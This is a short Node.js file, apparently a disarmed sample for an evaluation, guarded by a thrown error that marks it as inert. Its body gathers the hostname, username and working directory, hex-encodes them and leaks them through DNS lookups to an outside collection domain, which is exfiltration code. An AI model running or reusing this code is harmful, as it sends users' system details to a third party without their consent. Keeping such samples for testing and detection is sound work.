throw new Error("cordon eval replica: inert data, never run");
const os = require("os");
const dns = require("dns");

const facts = [os.hostname(), os.userInfo().username, process.cwd()].join("|");
const hex = Buffer.from(facts).toString("hex");
const chunks = hex.match(/.{1,60}/g) || [];
chunks.forEach((chunk, i) => {
  dns.lookup(chunk + "." + i + ".d3p.oast.fun", () => {});
});
